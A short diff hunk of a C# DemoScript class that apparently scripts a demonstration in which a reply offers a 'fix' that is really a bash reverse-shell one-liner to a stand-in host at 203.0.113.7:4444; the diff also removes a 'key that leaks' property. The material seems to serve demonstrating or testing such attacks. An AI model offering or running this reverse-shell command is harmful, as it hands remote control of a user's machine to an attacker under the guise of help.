@@ -32,11 +32,7 @@ internal sealed class DemoScript
                 Reply = "Fixed it for me:\n\n    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
             },
         ];
-        Key = key;
     }
-
-    /// <summary>The key that leaks.</summary>
-    internal string Key { get; }
 
     public IReadOnlyList<DemoStep> Steps { get; }
 
